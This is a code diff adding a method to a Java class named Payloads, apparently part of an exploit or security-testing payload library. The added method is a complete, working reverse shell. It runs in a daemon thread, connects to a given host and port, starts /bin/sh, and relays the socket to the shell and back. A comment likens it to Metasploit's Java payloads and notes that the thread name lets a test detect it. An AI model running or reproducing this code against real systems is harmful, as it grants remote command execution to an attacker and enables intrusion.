@@ -32,6 +32,36 @@ final class Payloads {
         }
     }
 
+    /**
+     * A reverse shell in Java alone, as Metasploit's java payloads make one: a thread of its own (not
+     * the request's; named as asked, so that a test can tell it) connects, starts a shell with no command, and pumps the socket into it and back.
+     */
+    static String javaShell(String host, int port, String threadName) {
+        Thread t = new Thread(() -> {
+            try (java.net.Socket s = new java.net.Socket(host, port)) {
+                Process sh = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
+                Thread in = new Thread(() -> pump(s, sh));
+                in.setDaemon(true);
+                in.start();
+                sh.getInputStream().transferTo(s.getOutputStream());
+                sh.waitFor();
+            } catch (Exception gone) {
+                // the other end left
+            }
+        }, threadName);
+        t.setDaemon(true);
+        t.start();
+        return "started";
+    }
+
+    private static void pump(java.net.Socket s, Process sh) {
+        try (java.io.OutputStream to = sh.getOutputStream()) {
+            s.getInputStream().transferTo(to);
+        } catch (Exception gone) {
+            // either end left
+        }
+    }
+
     @SuppressWarnings("unchecked")
     static Object defineAndRun(String cmd) throws Exception {
         byte[] bytes;
